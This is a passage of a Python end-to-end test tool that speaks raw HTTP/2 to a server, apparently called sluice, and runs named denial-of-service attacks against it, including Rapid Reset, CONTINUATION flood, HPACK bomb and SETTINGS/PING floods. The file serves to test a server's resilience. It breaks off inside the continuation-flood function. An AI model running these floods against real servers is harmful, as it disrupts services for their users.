#!/usr/bin/env python3
"""Hostile (and well-behaved) HTTP/2 clients for the sluice e2e tests.

Speaks raw HTTP/2 frames (RFC 9113) over loopback, standard library only, with a
tiny hand-written HPACK encoder (indexed static entries, literals without
Huffman) and a full HPACK decoder (static + dynamic table + Huffman, RFC 7541)
for the server's responses.

Usage:
    python3 h2_attacks.py --port P [--tls] [--host 127.0.0.1]
                          [--authority localhost] [--path /]
                          [--count N] [--timeout S] [--wait S] ATTACK

--tls wraps the connection with TLS (ALPN "h2", no certificate check);
otherwise h2c with prior knowledge (client preface, then SETTINGS).

Attacks (ATTACK argument) and what each mirrors:
  ok                  One well-behaved GET; prints {"status", "body_len",
                      "headers"}; exit 1 when no complete answer comes in 5 s.
  rapid-reset         HEADERS(END_STREAM) + RST_STREAM(CANCEL) on streams
                      1, 3, 5, ... as fast as possible, never waiting for
                      answers: HTTP/2 Rapid Reset, CVE-2023-44487.
  continuation-flood  HEADERS without END_HEADERS followed by an endless run
                      of CONTINUATION frames (1000-byte headers each):
                      CONTINUATION flood, CVE-2024-27316 class
                      (also CVE-2024-27983, CVE-2024-28182, ...).
  hpack-bomb          Inserts one ~4000-byte header into the dynamic table,
                      then references it (1-byte 0xBE = index 62) thousands
                      of times across CONTINUATION frames: each 16 KiB frame
                      decodes to ~64 MiB of headers (HPACK bomb, cf.
                      CVE-2016-6581 / CVE-2016-1544 class).
  settings-flood      Empty SETTINGS frames while never reading, so the
                      server's SETTINGS ACKs pile up: CVE-2019-9515.
  ping-flood          Same with PING frames (PING ACKs pile up):
                      CVE-2019-9512.
  zero-window         SETTINGS_INITIAL_WINDOW_SIZE=0, one GET, never a
                      WINDOW_UPDATE: the server's answer is stuck forever
                      unless it times the stream out: CVE-2019-9517
                      (Internal Data Buffering) class; cf. CVE-2019-9511
                      (Data Dribble) for the slow-reader family.
  many-streams        --count concurrent GETs on one connection, ignoring
                      SETTINGS_MAX_CONCURRENT_STREAMS; counts completions,
                      resets and REFUSED_STREAM resets.

Output: one JSON object on stdout (diagnostics go to stderr).
  rapid-reset        {"streams_sent", "goaway", "goaway_error", "closed", "seconds", ...}
  continuation-flood {"frames_sent", "goaway", "goaway_error", "closed", "seconds", ...}
  hpack-bomb         {"frames_sent", "goaway", "goaway_error", "closed", "rst", "status", "seconds", ...}
  settings-flood,
  ping-flood         {"frames_sent", "goaway", "goaway_error", "closed", "blocked", "seconds", ...}
  zero-window        {"headers", "rst", "goaway", "closed", "seconds", ...}
  many-streams       {"completed", "reset", "refused", "statuses", ...}
                     ("reset" counts every RST_STREAM, "refused" the subset
                     with REFUSED_STREAM; "completed" counts END_STREAM.)
Extra fields beyond these are informational.
"frames_sent" counts the attack frames fully handed to the kernel (for
continuation-flood and hpack-bomb it includes the opening HEADERS frame).

Every loop is bounded by --count and by the global --timeout (default 20 s;
for zero-window the default is --wait + 5 s), so the script always exits.
Exit status: 0 when the run completed, whatever the server did (for "ok":
only when a complete answer came); 1 for "ok" without a complete answer;
2 for usage errors; 3 when connecting (TCP, TLS or ALPN h2) fails.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

# --------------------------------------------------------------------------
# HTTP/2 constants (RFC 9113)
# --------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)

FLAG_END_STREAM = 0x1
FLAG_ACK = 0x1
FLAG_END_HEADERS = 0x4
FLAG_PADDED = 0x8
FLAG_PRIORITY = 0x20

SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6

ERR_CANCEL = 0x8
ERR_REFUSED_STREAM = 0x7

MAX_STREAM_ID = (1 << 31) - 1
MIN_MAX_FRAME_SIZE = 16384   # every peer must accept frames this large


def frame(ftype, flags, stream_id, payload=b""):
    """Serialise one frame: 24-bit length, type, flags, 31-bit stream id."""
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags,
                       stream_id & MAX_STREAM_ID) + payload


def settings_frame(pairs=(), ack=False):
    payload = b"".join(struct.pack(">HI", k, v) for k, v in pairs)
    return frame(SETTINGS, FLAG_ACK if ack else 0, 0, payload)


def window_update(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def rst_stream(stream_id, code):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


# --------------------------------------------------------------------------
# HPACK (RFC 7541)
# --------------------------------------------------------------------------

STATIC_TABLE = [
    (b":authority", b""), (b":method", b"GET"), (b":method", b"POST"),
    (b":path", b"/"), (b":path", b"/index.html"), (b":scheme", b"http"),
    (b":scheme", b"https"), (b":status", b"200"), (b":status", b"204"),
    (b":status", b"206"), (b":status", b"304"), (b":status", b"400"),
    (b":status", b"404"), (b":status", b"500"), (b"accept-charset", b""),
    (b"accept-encoding", b"gzip, deflate"), (b"accept-language", b""),
    (b"accept-ranges", b""), (b"accept", b""),
    (b"access-control-allow-origin", b""), (b"age", b""), (b"allow", b""),
    (b"authorization", b""), (b"cache-control", b""),
    (b"content-disposition", b""), (b"content-encoding", b""),
    (b"content-language", b""), (b"content-length", b""),
    (b"content-location", b""), (b"content-range", b""),
    (b"content-type", b""), (b"cookie", b""), (b"date", b""), (b"etag", b""),
    (b"expect", b""), (b"expires", b""), (b"from", b""), (b"host", b""),
    (b"if-match", b""), (b"if-modified-since", b""), (b"if-none-match", b""),
    (b"if-range", b""), (b"if-unmodified-since", b""), (b"last-modified", b""),
    (b"link", b""), (b"location", b""), (b"max-forwards", b""),
    (b"proxy-authenticate", b""), (b"proxy-authorization", b""),
    (b"range", b""), (b"referer", b""), (b"refresh", b""),
    (b"retry-after", b""), (b"server", b""), (b"set-cookie", b""),
    (b"strict-transport-security", b""), (b"transfer-encoding", b""),
    (b"user-agent", b""), (b"vary", b""), (b"via", b""),
    (b"www-authenticate", b""),
]
assert len(STATIC_TABLE) == 61

# RFC 7541 Appendix B: (code, bit length) for symbols 0..255 and EOS (256).
HUFFMAN_CODES = [
    (0x1ff8, 13), (0x7fffd8, 23), (0xfffffe2, 28), (0xfffffe3, 28), (0xfffffe4, 28), (0xfffffe5, 28),
    (0xfffffe6, 28), (0xfffffe7, 28), (0xfffffe8, 28), (0xffffea, 24), (0x3ffffffc, 30), (0xfffffe9, 28),
    (0xfffffea, 28), (0x3ffffffd, 30), (0xfffffeb, 28), (0xfffffec, 28), (0xfffffed, 28), (0xfffffee, 28),
    (0xfffffef, 28), (0xffffff0, 28), (0xffffff1, 28), (0xffffff2, 28), (0x3ffffffe, 30), (0xffffff3, 28),
    (0xffffff4, 28), (0xffffff5, 28), (0xffffff6, 28), (0xffffff7, 28), (0xffffff8, 28), (0xffffff9, 28),
    (0xffffffa, 28), (0xffffffb, 28), (0x14, 6), (0x3f8, 10), (0x3f9, 10), (0xffa, 12),
    (0x1ff9, 13), (0x15, 6), (0xf8, 8), (0x7fa, 11), (0x3fa, 10), (0x3fb, 10),
    (0xf9, 8), (0x7fb, 11), (0xfa, 8), (0x16, 6), (0x17, 6), (0x18, 6),
    (0x0, 5), (0x1, 5), (0x2, 5), (0x19, 6), (0x1a, 6), (0x1b, 6),
    (0x1c, 6), (0x1d, 6), (0x1e, 6), (0x1f, 6), (0x5c, 7), (0xfb, 8),
    (0x7ffc, 15), (0x20, 6), (0xffb, 12), (0x3fc, 10), (0x1ffa, 13), (0x21, 6),
    (0x5d, 7), (0x5e, 7), (0x5f, 7), (0x60, 7), (0x61, 7), (0x62, 7),
    (0x63, 7), (0x64, 7), (0x65, 7), (0x66, 7), (0x67, 7), (0x68, 7),
    (0x69, 7), (0x6a, 7), (0x6b, 7), (0x6c, 7), (0x6d, 7), (0x6e, 7),
    (0x6f, 7), (0x70, 7), (0x71, 7), (0x72, 7), (0xfc, 8), (0x73, 7),
    (0xfd, 8), (0x1ffb, 13), (0x7fff0, 19), (0x1ffc, 13), (0x3ffc, 14), (0x22, 6),
    (0x7ffd, 15), (0x3, 5), (0x23, 6), (0x4, 5), (0x24, 6), (0x5, 5),
    (0x25, 6), (0x26, 6), (0x27, 6), (0x6, 5), (0x74, 7), (0x75, 7),
    (0x28, 6), (0x29, 6), (0x2a, 6), (0x7, 5), (0x2b, 6), (0x76, 7),
    (0x2c, 6), (0x8, 5), (0x9, 5), (0x2d, 6), (0x77, 7), (0x78, 7),
    (0x79, 7), (0x7a, 7), (0x7b, 7), (0x7ffe, 15), (0x7fc, 11), (0x3ffd, 14),
    (0x1ffd, 13), (0xffffffc, 28), (0xfffe6, 20), (0x3fffd2, 22), (0xfffe7, 20), (0xfffe8, 20),
    (0x3fffd3, 22), (0x3fffd4, 22), (0x3fffd5, 22), (0x7fffd9, 23), (0x3fffd6, 22), (0x7fffda, 23),
    (0x7fffdb, 23), (0x7fffdc, 23), (0x7fffdd, 23), (0x7fffde, 23), (0xffffeb, 24), (0x7fffdf, 23),
    (0xffffec, 24), (0xffffed, 24), (0x3fffd7, 22), (0x7fffe0, 23), (0xffffee, 24), (0x7fffe1, 23),
    (0x7fffe2, 23), (0x7fffe3, 23), (0x7fffe4, 23), (0x1fffdc, 21), (0x3fffd8, 22), (0x7fffe5, 23),
    (0x3fffd9, 22), (0x7fffe6, 23), (0x7fffe7, 23), (0xffffef, 24), (0x3fffda, 22), (0x1fffdd, 21),
    (0xfffe9, 20), (0x3fffdb, 22), (0x3fffdc, 22), (0x7fffe8, 23), (0x7fffe9, 23), (0x1fffde, 21),
    (0x7fffea, 23), (0x3fffdd, 22), (0x3fffde, 22), (0xfffff0, 24), (0x1fffdf, 21), (0x3fffdf, 22),
    (0x7fffeb, 23), (0x7fffec, 23), (0x1fffe0, 21), (0x1fffe1, 21), (0x3fffe0, 22), (0x1fffe2, 21),
    (0x7fffed, 23), (0x3fffe1, 22), (0x7fffee, 23), (0x7fffef, 23), (0xfffea, 20), (0x3fffe2, 22),
    (0x3fffe3, 22), (0x3fffe4, 22), (0x7ffff0, 23), (0x3fffe5, 22), (0x3fffe6, 22), (0x7ffff1, 23),
    (0x3ffffe0, 26), (0x3ffffe1, 26), (0xfffeb, 20), (0x7fff1, 19), (0x3fffe7, 22), (0x7ffff2, 23),
    (0x3fffe8, 22), (0x1ffffec, 25), (0x3ffffe2, 26), (0x3ffffe3, 26), (0x3ffffe4, 26), (0x7ffffde, 27),
    (0x7ffffdf, 27), (0x3ffffe5, 26), (0xfffff1, 24), (0x1ffffed, 25), (0x7fff2, 19), (0x1fffe3, 21),
    (0x3ffffe6, 26), (0x7ffffe0, 27), (0x7ffffe1, 27), (0x3ffffe7, 26), (0x7ffffe2, 27), (0xfffff2, 24),
    (0x1fffe4, 21), (0x1fffe5, 21), (0x3ffffe8, 26), (0x3ffffe9, 26), (0xffffffd, 28), (0x7ffffe3, 27),
    (0x7ffffe4, 27), (0x7ffffe5, 27), (0xfffec, 20), (0xfffff3, 24), (0xfffed, 20), (0x1fffe6, 21),
    (0x3fffe9, 22), (0x1fffe7, 21), (0x1fffe8, 21), (0x7ffff3, 23), (0x3fffea, 22), (0x3fffeb, 22),
    (0x1ffffee, 25), (0x1ffffef, 25), (0xfffff4, 24), (0xfffff5, 24), (0x3ffffea, 26), (0x7ffff4, 23),
    (0x3ffffeb, 26), (0x7ffffe6, 27), (0x3ffffec, 26), (0x3ffffed, 26), (0x7ffffe7, 27), (0x7ffffe8, 27),
    (0x7ffffe9, 27), (0x7ffffea, 27), (0x7ffffeb, 27), (0xffffffe, 28), (0x7ffffec, 27), (0x7ffffed, 27),
    (0x7ffffee, 27), (0x7ffffef, 27), (0x7fffff0, 27), (0x3ffffee, 26), (0x3fffffff, 30),
]
assert len(HUFFMAN_CODES) == 257
HUFFMAN_EOS = 256
# (bit length, code) -> symbol, for bit-by-bit decoding.
_HUFFMAN_DECODE = {(length, code): sym
                   for sym, (code, length) in enumerate(HUFFMAN_CODES)}


class HpackError(Exception):
    pass


def huffman_decode(data):
    out = bytearray()
    code = 0
    nbits = 0
    for byte in data:
        for shift in range(7, -1, -1):
            code = (code << 1) | ((byte >> shift) & 1)
            nbits += 1
            sym = _HUFFMAN_DECODE.get((nbits, code))
            if sym is not None:
                if sym == HUFFMAN_EOS:
                    raise HpackError("EOS symbol inside a Huffman string")
                out.append(sym)
                code = 0
                nbits = 0
            elif nbits > 30:
                raise HpackError("invalid Huffman code")
    # Padding: at most 7 bits, all ones (a prefix of EOS).
    if nbits > 7 or code != (1 << nbits) - 1:
        raise HpackError("invalid Huffman padding")
    return bytes(out)


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """Integer representation with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(raw):
    """String literal, never Huffman coded."""
    return hpack_int(len(raw), 7) + raw


def hpack_indexed(index):
    """Indexed header field (RFC 7541 6.1): 1xxxxxxx."""
    return hpack_int(index, 7, 0x80)


def hpack_literal(name, value, name_index=0):
    """Literal header field without indexing (6.2.2): 0000xxxx."""
    if name_index:
        return hpack_int(name_index, 4) + hpack_str(value)
    return b"\x00" + hpack_str(name) + hpack_str(value)


def hpack_literal_indexed(name, value):
    """Literal header field with incremental indexing, new name (6.2.1)."""
    return b"\x40" + hpack_str(name) + hpack_str(value)


def request_block(scheme, authority, path, method=b"GET"):
    """Header block for a simple request; no dynamic-table state needed."""
    out = bytearray()
    out += hpack_indexed(2) if method == b"GET" else hpack_literal(b"", method, 2)
    out += hpack_indexed(7 if scheme == "https" else 6)
    out += hpack_indexed(4) if path == b"/" else hpack_literal(b"", path, 4)
    out += hpack_literal(b"", authority, 1)
    return bytes(out)


class HpackDecoder:
    """Full HPACK decoder: static table, dynamic table, Huffman strings."""

    def __init__(self, max_table_size=4096):
        self.settings_limit = max_table_size   # what we advertised
        self.max_size = max_table_size
        self.size = 0
        self.dynamic = []                      # newest entry first

    def _evict(self):
        while self.size > self.max_size and self.dynamic:
            name, value = self.dynamic.pop()
            self.size -= 32 + len(name) + len(value)

    def _add(self, name, value):
        self.dynamic.insert(0, (name, value))
        self.size += 32 + len(name) + len(value)
        self._evict()   # an entry larger than the table empties it

    def _get(self, index):
        if index <= 0:
            raise HpackError("index 0")
        if index <= len(STATIC_TABLE):
            return STATIC_TABLE[index - 1]
        index -= len(STATIC_TABLE) + 1
        if index >= len(self.dynamic):
            raise HpackError("index beyond the dynamic table")
        return self.dynamic[index]

    @staticmethod
    def _int(data, pos, prefix_bits):
        limit = (1 << prefix_bits) - 1
        if pos >= len(data):
            raise HpackError("truncated integer")
        value = data[pos] & limit
        pos += 1
        if value < limit:
            return value, pos
        shift = 0
        while True:
            if pos >= len(data):
                raise HpackError("truncated integer")
            byte = data[pos]
            pos += 1
            value += (byte & 0x7F) << shift
            shift += 7
            if not byte & 0x80:
                return value, pos
            if shift > 35:
                raise HpackError("integer overflow")

    def _str(self, data, pos):
        huffman = bool(data[pos] & 0x80) if pos < len(data) else False
        length, pos = self._int(data, pos, 7)
        if pos + length > len(data):
            raise HpackError("truncated string")
        raw = bytes(data[pos:pos + length])
        return (huffman_decode(raw) if huffman else raw), pos + length

    def decode(self, data):
        headers = []
        pos = 0
        while pos < len(data):
            byte = data[pos]
            if byte & 0x80:                      # indexed field
                index, pos = self._int(data, pos, 7)
                headers.append(self._get(index))
            elif byte & 0x40:                    # literal, incremental indexing
                index, pos = self._int(data, pos, 6)
                if index:
                    name = self._get(index)[0]
                else:
                    name, pos = self._str(data, pos)
                value, pos = self._str(data, pos)
                headers.append((name, value))
                self._add(name, value)
            elif byte & 0x20:                    # dynamic table size update
                size, pos = self._int(data, pos, 5)
                if size > self.settings_limit:
                    raise HpackError("table size update above our limit")
                self.max_size = size
                self._evict()
            else:                                # literal, not / never indexed
                index, pos = self._int(data, pos, 4)
                if index:
                    name = self._get(index)[0]
                else:
                    name, pos = self._str(data, pos)
                value, pos = self._str(data, pos)
                headers.append((name, value))
        return headers


# --------------------------------------------------------------------------
# Connection
# --------------------------------------------------------------------------

class ConnectError(Exception):
    pass


class Stream:
    def __init__(self, sid):
        self.sid = sid
        self.headers = []      # regular + pseudo fields of the final answer
        self.status = None     # final (non-1xx) :status
        self.got_headers = False
        self.body_len = 0
        self.ended = False     # END_STREAM received
        self.rst = None        # RST_STREAM error code received


class H2Conn:
    """One HTTP/2 client connection, single-threaded.

    The socket is non-blocking.  `send` never blocks forever: while the
    kernel's send buffer is full it keeps reading (unless told not to), so
    client and server cannot deadlock on each other's full buffers.  `poll`
    reads what has arrived and handles every complete frame: SETTINGS and
    PING are acknowledged, DATA is credited back with WINDOW_UPDATE when
    `auto_window` is set, header blocks are HPACK-decoded.
    """

    def __init__(self, args, deadline):
        self.args = args
        self.deadline = deadline
        self.tls = args.tls
        self.sock = None
        self.rbuf = bytearray()
        self.read_closed = False    # EOF / error while reading
        self.write_closed = False   # error while writing (reading may still work)
        self.close_reason = None
        self.send_blocked = False
        self.auto_reply = True      # ACK SETTINGS / PING
        self.auto_window = True     # credit DATA back
        self.out_block_open = False  # we are mid header block: no other frame may go out
        self.pending_out = bytearray()
        self._sending = False
        self.peer_settings = {}
        self.peer_settings_seen = False
        self.settings_acks = 0
        self.ping_acks = 0
        self.goaway = None          # (last_stream_id, error_code, debug)
        self.rst_count = 0
        self.streams = {}
        self.hpack = HpackDecoder()
        self.hpack_error = None
        self._in_block = None       # (kind, sid, flags, fragment buffer)
        self.bytes_received = 0

    # -- setup ----------------------------------------------------------------

    def connect(self):
        timeout = max(0.5, min(5.0, self.deadline - time.monotonic()))
        try:
            raw = socket.create_connection((self.args.host, self.args.port),
                                           timeout=timeout)
        except OSError as exc:
            raise ConnectError(f"connect {self.args.host}:{self.args.port}: {exc}")
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sni = self.args.authority.rsplit(":", 1)[0] if \
                self.args.authority.count(":") == 1 else self.args.authority
            sni = sni.strip("[]") or None
            try:
                sock = ctx.wrap_socket(raw, server_hostname=sni)
            except (OSError, ssl.SSLError) as exc:
                raw.close()
                raise ConnectError(f"TLS handshake: {exc}")
            if sock.selected_alpn_protocol() != "h2":
                proto = sock.selected_alpn_protocol()
                sock.close()
                raise ConnectError(f"server did not negotiate h2 (ALPN {proto!r})")
            self.sock = sock
        else:
            self.sock = raw
        self.sock.setblocking(False)

    def start(self, settings=((SETTINGS_ENABLE_PUSH, 0),)):
        """Client connection preface: magic + SETTINGS."""
        self.send(PREFACE + settings_frame(settings))

    def handshake(self, wait=3.0):
        """Wait (briefly) for the server's SETTINGS, which `poll` ACKs."""
        wait = min(wait, max(0.2, self.time_left() * 0.25))
        end = min(self.deadline, time.monotonic() + wait)
        while not self.peer_settings_seen and not self.closed and not self.goaway \
                and time.monotonic() < end:
            self.poll(min(0.05, max(0.0, end - time.monotonic())))
        return self.peer_settings_seen

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass

    @property
    def closed(self):
        return self.read_closed or self.write_closed

    def _mark_closed(self, reason, reading=True):
        # After a failed write the kernel may still hold readable data (e.g.
        # a GOAWAY that preceded the server's RST), so only a read-side
        # failure stops `poll`.
        if not self.closed:
            self.close_reason = str(reason)
        if reading:
            self.read_closed = True
        self.write_closed = True

    # -- output -----------------------------------------------------------------

    def send(self, data, read_while_blocked=True, block_limit=2.0):
        """Send all of `data` (then any queued control replies).

        Returns how many bytes of `data` went out.  Stops early when the
        connection closes, the global deadline passes, or no byte could be
        written for `block_limit` seconds (then `send_blocked` is set).
        """
        view = memoryview(bytes(data))
        sent = 0
        total = len(view)
        own = True          # still sending the caller's data (vs. control replies)
        self._sending = True
        try:
            blocked_since = None
            while True:
                if not view:
                    if own:
                        own = False
                    if self.pending_out and not self.out_block_open and self.auto_reply:
                        view = memoryview(bytes(self.pending_out))
                        self.pending_out.clear()
                        continue
                    break
                if self.closed:
                    break
                now = time.monotonic()
                if now > self.deadline:
                    break
                try:
                    n = self.sock.send(view)
                except (BlockingIOError, InterruptedError,
                        ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    n = 0
                except (OSError, ssl.SSLError) as exc:
                    self._mark_closed(f"send: {exc}", reading=False)
                    break
                if n:
                    view = view[n:]
                    if own:
                        sent += n
                    blocked_since = None
                    continue
                if blocked_since is None:
                    blocked_since = now
                elif now - blocked_since > block_limit:
                    self.send_blocked = True
                    break
                rlist = [self.sock] if read_while_blocked else []
                try:
                    readable, _, _ = select.select(rlist, [self.sock], [], 0.05)
                except (OSError, ValueError) as exc:
                    self._mark_closed(f"select: {exc}")
                    break
                if readable:
                    self.poll(0)
        finally:
            self._sending = False
        return min(sent, total)

    def send_units(self, units, **kw):
        """Send a list of byte strings in one write; return how many went out whole."""
        data = b"".join(units)
        n = self.send(data, **kw)
        if n >= len(data):
            return len(units)
        done = 0
        end = 0
        for unit in units:
            end += len(unit)
            if end > n:
                break
            done += 1
        return done

    def _queue(self, data):
        self.pending_out += data

    # -- input ------------------------------------------------------------------

    def poll(self, timeout):
        """Read what is available (waiting up to `timeout`), handle frames.

        Returns True when any bytes arrived.
        """
        if self.read_closed or self.sock is None:
            return False
        got = False
        wait = max(0.0, timeout)
        for _ in range(32):     # bounded: a chatty server cannot pin us here
            pending = self.tls and self.sock.pending()
            if not pending:
                try:
                    readable, _, _ = select.select([self.sock], [], [], wait)
                except (OSError, ValueError) as exc:
                    self._mark_closed(f"select: {exc}")
                    break
                if not readable:
                    break
            wait = 0.0
            try:
                data = self.sock.recv(1 << 18)
            except (BlockingIOError, InterruptedError,
                    ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except (OSError, ssl.SSLError) as exc:
                self._mark_closed(f"recv: {exc}")
                break
            if not data:
                self._mark_closed("EOF")
                break
            got = True
            self.bytes_received += len(data)
            self.rbuf += data
            self._process()
            if len(self.rbuf) > (1 << 24):   # never hold more than 16 MiB unparsed
                break
        if not self._sending and self.pending_out and not self.out_block_open \
                and self.auto_reply and not self.closed:
            self.send(b"")
        return got

    def _process(self):
        buf = self.rbuf
        pos = 0
        while len(buf) - pos >= 9:
            length = (buf[pos] << 16) | (buf[pos + 1] << 8) | buf[pos + 2]
            if len(buf) - pos < 9 + length:
                break
            ftype = buf[pos + 3]
            flags = buf[pos + 4]
            sid = struct.unpack_from(">I", buf, pos + 5)[0] & MAX_STREAM_ID
            payload = bytes(buf[pos + 9:pos + 9 + length])
            pos += 9 + length
            self._handle(ftype, flags, sid, payload)
        if pos:
            del buf[:pos]

    def stream(self, sid):
        st = self.streams.get(sid)
        if st is None:
            st = self.streams[sid] = Stream(sid)
        return st

    @staticmethod
    def _strip_padding(flags, payload):
        if flags & FLAG_PADDED and payload:
            pad = payload[0]
            return payload[1:len(payload) - pad] if pad < len(payload) else b""
        return payload

    def _handle(self, ftype, flags, sid, payload):
        if ftype == DATA:
            st = self.stream(sid)
            st.body_len += len(self._strip_padding(flags, payload))
            if flags & FLAG_END_STREAM:
                st.ended = True
            if self.auto_window and payload:
                self._queue(window_update(0, len(payload)))
                if not st.ended:
                    self._queue(window_update(sid, len(payload)))
        elif ftype == HEADERS:
            body = self._strip_padding(flags, payload)
            if flags & FLAG_PRIORITY:
                body = body[5:]
            self._in_block = ["headers", sid, flags, bytearray(body)]
            if flags & FLAG_END_HEADERS:
                self._finish_block()
        elif ftype == CONTINUATION:
            if self._in_block is not None and self._in_block[1] == sid:
                self._in_block[3] += payload
                if flags & FLAG_END_HEADERS:
                    self._finish_block()
        elif ftype == PUSH_PROMISE:
            body = self._strip_padding(flags, payload)[4:]
            self._in_block = ["push", sid, flags, bytearray(body)]
            if flags & FLAG_END_HEADERS:
                self._finish_block()
        elif ftype == RST_STREAM:
            code = struct.unpack(">I", payload[:4])[0] if len(payload) >= 4 else None
            self.stream(sid).rst = code
            self.rst_count += 1
        elif ftype == SETTINGS:
            if flags & FLAG_ACK:
                self.settings_acks += 1
            else:
                for off in range(0, len(payload) - 5, 6):
                    key, value = struct.unpack_from(">HI", payload, off)
                    self.peer_settings[key] = value
                self.peer_settings_seen = True
                self._queue(settings_frame(ack=True))
        elif ftype == PING:
            if flags & FLAG_ACK:
                self.ping_acks += 1
            else:
                self._queue(frame(PING, FLAG_ACK, 0, payload[:8]))
        elif ftype == GOAWAY:
            if len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = (last & MAX_STREAM_ID, code,
                               payload[8:].decode("latin-1", "replace"))
            else:
                self.goaway = (None, None, "")
        # PRIORITY, WINDOW_UPDATE and unknown frame types are ignored.

    def _finish_block(self):
        kind, sid, flags, block = self._in_block
        self._in_block = None
        try:
            headers = self.hpack.decode(block)
        except HpackError as exc:
            # The dynamic table is now out of sync; later statuses are unreliable.
            self.hpack_error = str(exc)
            print(f"h2_attacks: HPACK decode error: {exc}", file=sys.stderr)
            headers = []
        if kind != "headers":
            return
        st = self.stream(sid)
        st.got_headers = True
        status = None
        for name, value in headers:
            if name == b":status":
                try:
                    status = int(value)
                except ValueError:
                    status = None
        # The first final (non-1xx) answer counts; 1xx blocks and trailers
        # (a later block without :status) are decoded but not kept.
        if status is not None and status >= 200 and st.status is None:
            st.status = status
            st.headers = headers
        if flags & FLAG_END_STREAM:
            st.ended = True

    # -- helpers ----------------------------------------------------------------

    def time_left(self):
        return self.deadline - time.monotonic()

    def drain(self, idle=1.0, cap=5.0, until=None):
        """Read until closed, `until()` holds, `idle` s pass without data, or `cap` s."""
        end = min(self.deadline, time.monotonic() + cap)
        last = time.monotonic()
        while not self.read_closed and time.monotonic() < end:
            if until is not None and until():
                break
            if self.poll(min(0.05, max(0.0, end - time.monotonic()))):
                last = time.monotonic()
            elif time.monotonic() - last >= idle:
                break

    def report(self):
        """Fields common to every attack's JSON."""
        out = {
            "goaway": self.goaway is not None,
            "goaway_error": self.goaway[1] if self.goaway else None,
            "goaway_last_stream": self.goaway[0] if self.goaway else None,
            "closed": self.closed,
        }
        if self.goaway and self.goaway[2]:
            out["goaway_debug"] = self.goaway[2][:200]
        if self.close_reason:
            out["close_reason"] = self.close_reason
        if self.hpack_error:
            out["hpack_error"] = self.hpack_error
        return out


# --------------------------------------------------------------------------
# Attacks
# --------------------------------------------------------------------------

def _get_block(args):
    return request_block("https" if args.tls else "http",
                         args.authority.encode(), args.path.encode())


def _pseudo_random_text(n, seed=0x2545F491):
    """Deterministic 'random-ish' lowercase text (no compression help)."""
    out = bytearray()
    x = seed
    for _ in range(n):
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(97 + (x >> 16) % 26)
    return bytes(out)


def _elapsed(t0):
    return round(time.monotonic() - t0, 3)


def attack_ok(conn, args, count):
    conn.start()
    conn.send(frame(HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, 1, _get_block(args)))
    st = conn.stream(1)
    end = min(conn.deadline, time.monotonic() + 5.0)

    def refused_by_goaway():
        return conn.goaway is not None and conn.goaway[0] is not None and conn.goaway[0] < 1

    while not st.ended and st.rst is None and not conn.closed \
            and not refused_by_goaway() and time.monotonic() < end:
        conn.poll(min(0.05, max(0.0, end - time.monotonic())))
    headers = {}
    for name, value in st.headers:
        if name.startswith(b":"):
            continue
        key = name.decode("latin-1")
        val = value.decode("latin-1")
        headers[key] = headers[key] + ", " + val if key in headers else val
    result = {"status": st.status, "body_len": st.body_len, "headers": headers}
    good = st.ended and st.status is not None and st.rst is None
    if not good:
        if st.rst is not None:
            result["error"] = f"RST_STREAM {st.rst}"
        elif refused_by_goaway():
            result["error"] = f"GOAWAY {conn.goaway[1]}"
        elif conn.closed:
            result["error"] = f"connection closed ({conn.close_reason})"
        else:
            result["error"] = "timeout"
        result.update(conn.report())
    return result, (0 if good else 1)


def attack_rapid_reset(conn, args, count):
    conn.start()
    conn.handshake()
    block = _get_block(args)
    cancel = struct.pack(">I", ERR_CANCEL)

    def unit(sid):
        return (frame(HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, sid, block)
                + frame(RST_STREAM, 0, sid, cancel))

    count = min(count, (MAX_STREAM_ID + 1) // 2)
    sent = 0
    t0 = time.monotonic()
    while sent < count and not conn.closed and conn.goaway is None \
            and not conn.send_blocked and conn.time_left() > 0:
        k = min(8, count - sent)
        units = [unit(1 + 2 * (sent + i)) for i in range(k)]
        n = conn.send_units(units)
        sent += n
        if n < k:
            break
        conn.poll(0)          # non-blocking: note GOAWAY/close, ACK SETTINGS
    seconds = _elapsed(t0)
    conn.drain(idle=1.0, cap=3.0)   # catch a late GOAWAY / close
    result = {"streams_sent": sent}
    result.update(conn.report())
    result.update({
        "seconds": seconds,
        "blocked": conn.send_blocked,
        "rst_received": conn.rst_count,
        "responses": sum(1 for s in conn.streams.values() if s.got_headers),
    })
    return result, 0


def attack_continuation_flood(conn, args, count):
    conn.start()
    conn.handshake()
    text = _pseudo_random_text(2000)
    # From now on our header block is open: no other frame of ours may go out
    # (SETTINGS/PING ACKs stay queued), or we would commit the protocol error.
    conn.out_block_open = True
    units_sent = 0
    t0 = time.monotonic()
    i = 0
